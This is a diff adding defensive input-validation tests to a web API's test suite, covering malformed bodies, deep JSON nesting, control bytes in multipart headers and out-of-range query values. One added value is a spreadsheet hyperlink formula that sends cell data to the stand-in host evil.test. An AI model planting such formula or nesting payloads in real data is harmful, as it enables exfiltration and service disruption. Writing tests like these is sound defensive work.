@@ -18,6 +18,8 @@ afterAll(async () => {
 
 const huge = "x".repeat(20_000);
 const invalidJson = '{"title": "broken",';
+/** An address a spreadsheet would run as a formula when it lands in an export. */
+const formulaEmail = '=hyperlink("http://evil.test/?"&f2&"x@x","open")';
 
 /** Per route, bodies a careless or hostile client sends. Every one must be a 400 with the error shape. */
 const cases: { route: string; method: "POST" | "PATCH"; path: () => string; bodies: unknown[] }[] = [
@@ -31,6 +33,7 @@ const cases: { route: string; method: "POST" | "PATCH"; path: () => string; bodi
       { email: "a@b.c", password: 123456 },
       { email: huge + "@x.io", password: "secret1" },
       { email: "a@b.c", password: "secret1", role: "emperor" },
+      { email: formulaEmail, password: "secret1" },
       invalidJson,
       "[]",
     ],
@@ -68,7 +71,7 @@ const cases: { route: string; method: "POST" | "PATCH"; path: () => string; bodi
     route: "create user",
     method: "POST",
     path: () => "/api/users",
-    bodies: [{}, { email: "nobody" }, { email: "a@b.c", role: "owner" }, { email: "a@b.c", password: "123" }, invalidJson],
+    bodies: [{}, { email: "nobody" }, { email: "a@b.c", role: "owner" }, { email: "a@b.c", password: "123" }, { email: formulaEmail }, invalidJson],
   },
 ];
 
@@ -91,6 +94,30 @@ describe("malformed bodies on every route", () => {
   it("a malformed id in the path is a 400, an unknown one a 404", async () => {
     expect((await t.call("GET", "/api/requests/not-a-uuid", { token: users.admin.token })).statusCode).toBe(400);
     expect((await t.call("GET", "/api/requests/00000000-0000-4000-8000-000000000000", { token: users.admin.token })).statusCode).toBe(404);
+  });
+
+  it("a body nested deeper than any real one is a 400 before anything walks it, on every JSON route", async () => {
+    const deepObject = '{"a":'.repeat(100_000) + "1" + "}".repeat(100_000);
+    const deepArray = "[".repeat(200_000) + "]".repeat(200_000);
+    const routes = [
+      { url: "/api/auth/signup" },
+      { url: "/api/auth/login" },
+      { url: "/api/work-orders" },
+      { url: "/api/requests", token: users.requester.token },
+      { url: `/api/requests/${requestId}/comments`, token: users.requester.token },
+    ];
+    const before = await eventCount();
+    for (const { url, token } of routes) {
+      for (const body of [deepObject, deepArray, `{"title":"ok","amount":1,"x":${deepArray}}`]) {
+        const res = await t.call("POST", url, { token, body });
+        expect(res.statusCode, `${url} ${body.slice(0, 20)} → ${res.body.slice(0, 200)}`).toBe(400);
+        expect(errorBody.parse(res.json()).error.code).toBe("invalid_json");
+      }
+    }
+    // Nesting a real body uses (and brackets inside text) is read as before.
+    const nested = await t.call("POST", "/api/requests", { token: users.requester.token, body: { title: "[[[{{{", amount: 1, description: "]}".repeat(50) } });
+    expect(nested.statusCode, nested.body).toBe(201);
+    expect(await eventCount()).toBe(before + 1);
   });
 
   it("a body over the size limit is a 413 with the error shape", async () => {
@@ -164,6 +191,33 @@ describe("malformed multipart", () => {
     await expectRejected(await upload("multipart/form-data; boundary=XYZ", part.slice(0, 60)));
     await expectRejected(await upload("multipart/form-data; boundary=XYZ", part));
     expect(await t.runtime.store.countEvents()).toBe(before);
+  });
+
+  it("is a 400 when a part's content type holds a NUL byte or other control characters", async () => {
+    const before = await t.runtime.store.countEvents();
+    for (const type of ["text/plain\u0000", "text/\u0000html", "text/plain\u0007; x=1"]) {
+      const withType = part.replace("Content-Type: text/plain", `Content-Type: ${type}`);
+      await expectRejected(await upload("multipart/form-data; boundary=XYZ", `${withType}--XYZ--\r\n`));
+    }
+    expect(await t.runtime.store.countEvents()).toBe(before);
+  });
+});
+
+describe("query parameters out of range", () => {
+  const cursor = (...parts: string[]) => Buffer.from(JSON.stringify(parts)).toString("base64url");
+
+  it("a feed cursor whose numbers overflow the log's positions is a 400", async () => {
+    for (const after of [cursor("1", "99999999999999999999"), cursor("99999999999999999999", "1"), cursor("1", "9223372036854775808")]) {
+      await expectRejected(await t.call("GET", `/api/events?after=${after}`, { token: users.admin.token }));
+    }
+  });
+
+  it("an export range outside the dates the database holds is a 400 before any line is sent", async () => {
+    for (const q of ["from=0000-01-01&to=2026-01-01", "from=2026-01-01&to=9999-12-31", "from=0000-01-01&to=9999-12-31"]) {
+      const res = await t.call("GET", `/api/audit/requests.csv?${q}`, { token: users.admin.token });
+      expect(res.statusCode, `${q} → ${res.body.slice(0, 200)}`).toBe(400);
+      expect(errorBody.safeParse(res.json()).success).toBe(true);
+    }
   });
 });
 
